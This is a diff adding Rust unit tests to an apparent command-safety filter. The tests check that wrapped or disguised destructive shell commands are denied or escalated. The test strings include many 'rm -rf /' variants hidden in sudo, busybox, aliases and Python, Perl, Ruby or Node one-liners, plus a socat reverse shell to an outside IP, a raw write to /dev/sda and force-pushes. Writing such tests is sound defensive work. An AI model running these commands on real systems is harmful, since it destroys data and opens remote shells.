@@ -422,6 +422,61 @@ fn hostile_inputs_do_not_crash() {
 }
 
 #[test]
+fn more_wrappers_and_forms() {
+    // Options without their value do not run off the argument list.
+    escalate("sudo -u", "shell.sudo");
+    allow("env -u");
+    allow("timeout");
+    deny("ls |& rm -rf /", "shell.rm-root");
+    deny("stdbuf -oL rm -rf /", "shell.rm-root");
+    deny("taskset 0x1 rm -rf /", "shell.rm-root");
+    deny("sudo -s rm -rf /", "shell.rm-root");
+    deny("flock /tmp/l -c 'rm -rf /'", "shell.rm-root");
+    deny("env -C / rm -rf etc", "shell.rm-system");
+    deny("busybox sh -c 'rm -rf /'", "shell.rm-root");
+    deny("coproc rm -rf /", "shell.rm-root");
+    deny("until false; do rm -rf /; done", "shell.rm-root");
+    deny("pushd /etc && rm -rf x; popd", "shell.rm-system");
+    deny(
+        "socat tcp:203.0.113.7:4444 exec:/bin/sh",
+        "shell.reverse-shell",
+    );
+    deny("find . -fprint /dev/sda", "shell.write-device");
+    deny("xargs -n1 sudo reboot", "shell.shutdown");
+    deny("alias x='rm -rf /'", "shell.rm-root");
+    escalate("git push origin --delete main", "shell.git-force-push");
+    escalate("git push --mirror", "shell.git-force-push");
+    escalate("select x in a; do ls; done", "shell.unparseable");
+    allow("cd ~/project && rm -rf build");
+    deny("cd .. && rm -rf project2", "shell.rm-outside-workspace");
+}
+
+#[test]
+fn commands_embedded_in_other_languages() {
+    deny(
+        "python3 -c \"import os; os.system('rm -rf /')\"",
+        "shell.rm-root",
+    );
+    deny("perl -e 'system(\"rm -rf ~\")'", "shell.rm-home");
+    deny("ruby -e '`rm -rf /etc`'", "shell.rm-system");
+    deny(
+        "node -e 'require(\"child_process\").execSync(\"rm -rf /\")'",
+        "shell.rm-root",
+    );
+    deny(
+        "python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/usr')\nEOF",
+        "shell.rm-system",
+    );
+    escalate(
+        "python -c \"import subprocess; subprocess.run(['git', 'push', '-f', 'origin', 'main'])\"",
+        "shell.git-force-push",
+    );
+    allow("python3 -c \"import subprocess; subprocess.run(['ls', '-la'])\"");
+    allow("python3 -c \"print('rm -rf /')\"");
+    allow("node -e 'console.log(`rm -rf /`)'");
+}
+
+#[test]
 fn user_patterns() {
     let settings: Settings = serde_json::from_str(
         r#"{
